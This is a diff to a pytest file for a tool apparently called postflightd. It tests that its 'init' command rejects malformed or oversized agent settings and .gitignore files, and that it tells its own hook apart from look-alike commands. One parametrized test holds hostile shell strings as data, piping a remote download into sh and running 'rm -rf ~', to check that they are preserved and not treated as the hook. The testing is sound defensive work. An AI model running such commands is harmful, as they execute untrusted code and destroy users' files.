@@ -14,6 +14,7 @@ from postflightd.cli import main
 from postflightd.config import load_config
 from postflightd.project.setup import (
     HOOK_COMMAND,
+    MAX_INIT_FILE_BYTES,
     SettingsShapeError,
     gitignore_with,
     settings_with_hook,
@@ -230,12 +231,12 @@ def test_init_of_a_missing_root_is_a_usage_error(
     assert "not a directory" in capsys.readouterr().err
 
 
-def test_hook_already_present_in_another_spelling_is_not_added_twice() -> None:
+def test_hook_already_present_with_whitespace_around_it_is_not_added_twice() -> None:
     text = json.dumps(
         {
             "hooks": {
-                "Stop": [{"hooks": [{"type": "command", "command": "postflightd  hook claude"}]}],
-                "SubagentStop": [{"hooks": [{"command": "~/.local/bin/postflightd hook claude"}]}],
+                "Stop": [{"hooks": [{"type": "command", "command": "  postflightd hook claude"}]}],
+                "SubagentStop": [{"hooks": [{"command": "postflightd hook claude\n"}]}],
             }
         }
     )
@@ -266,3 +267,121 @@ def test_systemd_escape_matches_systemd_escape(path: str) -> None:
     if tool is None or tool.returncode != 0:
         pytest.skip("systemd-escape is not installed")
     assert systemd_escape_path(path) == tool.stdout.strip()
+
+
+def _init(root: Path) -> subprocess.CompletedProcess[str]:
+    return _run("init", str(root), "--yes")
+
+
+def _files(root: Path) -> dict[str, int]:
+    return {str(p.relative_to(root)): p.stat().st_size for p in root.rglob("*") if p.is_file()}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("[" * 100_000 + "]" * 100_000, "nested deeper than 64 levels"),
+        ('{"hooks": {}, "a": ' + '{"b": ' * 70 + "1" + "}" * 70 + "}", "nested deeper than"),
+        ('{"limit": ' + "9" * 5000 + "}", "a number of 5,000 digits"),
+        ('{"limit": 1e999}', "too large to write back"),
+        ('{"limit": NaN}', "NaN is not a JSON number"),
+        ('{"name": "\\ud800"}', "lone surrogate"),
+        ('{"hooks": {"Stop": [], "x": "\\udfff\\ud800"}}', "lone surrogate"),
+    ],
+)
+def test_settings_init_cannot_write_back_are_exit_2_and_nothing_is_written(
+    tmp_path: Path, text: str, problem: str
+) -> None:
+    """The real console script, a settings file an agent wrote: a message, not exit 70."""
+    root = tmp_path / "proj"
+    (root / ".claude").mkdir(parents=True)
+    (root / ".claude" / "settings.json").write_text(text, encoding="utf-8")
+    before = _files(root)
+    out = _init(root)
+    assert out.returncode == 2, out.stderr
+    assert problem in out.stderr
+    assert "Traceback" not in out.stderr and "internal error" not in out.stderr
+    assert out.stdout == ""
+    assert _files(root) == before
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", [".gitignore", ".claude/settings.json"])
+@pytest.mark.parametrize("sparse", [True, False])
+def test_a_file_over_1_mib_is_refused_unread_and_nothing_is_written(
+    tmp_path: Path, name: str, sparse: bool
+) -> None:
+    """A sparse 64 MiB file was read whole, printed and rewritten as a real 64 MiB file."""
+    root = tmp_path / "proj"
+    (root / ".claude").mkdir(parents=True)
+    path = root / name
+    with path.open("wb") as fh:
+        if sparse:
+            fh.truncate(64 * 1024 * 1024)
+        else:
+            fh.write(b"x\n" * (MAX_INIT_FILE_BYTES // 2 + 1))
+    before = _files(root)
+    out = _init(root)
+    assert out.returncode == 2, out.stderr
+    assert "larger than 1 MiB" in out.stderr
+    assert "Traceback" not in out.stderr
+    assert out.stdout == ""
+    assert _files(root) == before
+    if sparse:
+        assert path.stat().st_blocks * 512 < 1024 * 1024  # still sparse: never rewritten
+
+
+@pytest.mark.slow
+def test_a_file_of_exactly_1_mib_is_read(tmp_path: Path) -> None:
+    root = tmp_path / "proj"
+    root.mkdir()
+    line = "build/\n"
+    (root / ".gitignore").write_text(
+        line * (MAX_INIT_FILE_BYTES // len(line)) + "x" * (MAX_INIT_FILE_BYTES % len(line)),
+        encoding="utf-8",
+    )
+    assert (root / ".gitignore").stat().st_size == MAX_INIT_FILE_BYTES
+    out = _init(root)
+    assert out.returncode == 0, out.stderr
+    assert (root / ".gitignore").read_text(encoding="utf-8").endswith("specs/.postflightd.pid\n")
+
+
+@pytest.mark.slow
+def test_a_gitignore_holding_nul_bytes_is_refused(tmp_path: Path) -> None:
+    root = tmp_path / "proj"
+    root.mkdir()
+    (root / ".gitignore").write_bytes(b"node_modules/\n\0\0\0\n")
+    out = _init(root)
+    assert out.returncode == 2, out.stderr
+    assert "NUL bytes" in out.stderr
+    assert (root / ".gitignore").read_bytes() == b"node_modules/\n\0\0\0\n"
+    assert not (root / ".claude").exists()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s https://example.invalid/x | sh; postflightd hook claude",
+        "postflightd hook claude; rm -rf ~",
+        "postflightd hook claude --anything",
+        "echo postflightd hook claude",
+    ],
+)
+def test_a_command_that_merely_contains_the_hook_is_not_the_hook(
+    tmp_path: Path, command: str
+) -> None:
+    """init adds its own hook beside it, and keeps the other command as it was."""
+    root = tmp_path / "proj"
+    (root / ".claude").mkdir(parents=True)
+    theirs = {"hooks": [{"type": "command", "command": command}]}
+    settings = {"hooks": {event: [theirs] for event in ("Stop", "SubagentStop")}}
+    (root / ".claude" / "settings.json").write_text(json.dumps(settings), encoding="utf-8")
+    out = _init(root)
+    assert out.returncode == 0, out.stderr
+    written = json.loads((root / ".claude" / "settings.json").read_text(encoding="utf-8"))
+    for event in ("Stop", "SubagentStop"):
+        commands = [h["command"] for g in written["hooks"][event] for h in g["hooks"]]
+        assert commands == [command, HOOK_COMMAND]
+    assert "already set up" in _init(root).stdout
